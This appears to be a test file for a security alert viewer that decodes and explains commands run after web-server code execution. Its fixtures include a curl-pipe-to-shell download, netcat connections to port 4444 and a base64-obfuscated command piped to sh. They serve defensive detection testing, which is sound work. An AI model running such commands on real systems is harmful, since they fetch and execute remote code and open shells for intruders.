// @vitest-environment jsdom
import { cleanup, screen, within } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { renderApp } from '../../test/browser_app/render_app';
import { toAlertOfProcess } from '../../test/browser_app/sample_alerts';

afterEach(cleanup);

const openCommand = (script: string) => {
  const alert = toAlertOfProcess('alert-1', { args: ['sh', '-c', script] });
  return renderApp({
    path: '/alerts/alert-1',
    answers: { 'GET /internal/web_server_rce/alerts/*': () => ({ alert }) },
  });
};

test('decodes what the command hides, and tells public addresses from private ones', async () => {
  const hidden = btoa('curl http://203.0.113.9/x | sh; nc 10.0.0.7 4444');
  openCommand(`echo ${hidden} | base64 -d | sh`);
  const reading = await screen.findByTestId('webServerRceCommandReading');
  expect(reading.textContent).toContain('Decoded from base64');
  expect(reading.textContent).toContain('curl http://203.0.113.9/x | sh; nc 10.0.0.7 4444');
  expect(reading.textContent).toMatch(/203\.0\.113\.9.*public/);
  expect(reading.textContent).toMatch(/10\.0\.0\.7.*private/);
  const copy = within(reading).getByRole('button', { name: 'Copy hxxp://203[.]0[.]113[.]9/x' });
  expect(copy).toBeDefined();
});

test('reads what a script was made to run, not how the server started the script', async () => {
  const alert = {
    ...toAlertOfProcess('alert-1', { args: ['perl', '/cgi-bin/up.pl'] }),
    tellingCommand: 'sh -c nc 203.0.113.9 4444',
  };
  renderApp({
    path: '/alerts/alert-1',
    answers: { 'GET /internal/web_server_rce/alerts/*': () => ({ alert }) },
  });
  await screen.findByRole('button', { name: 'Show all alerts with 203.0.113.9' });
  const part = screen.getByRole('region', { name: 'The command, read for you' });
  expect(part.textContent).toContain('sh -c nc 203.0.113.9 4444');
});

test('looks for an indicator in all alerts with one click', async () => {
  const { user, history } = openCommand('ping -c1 203.0.113.9');
  await user.click(await screen.findByRole('button', { name: 'Show all alerts with 203.0.113.9' }));
  expect(new URLSearchParams(history.location.search).get('q')).toBe('203.0.113.9');
});
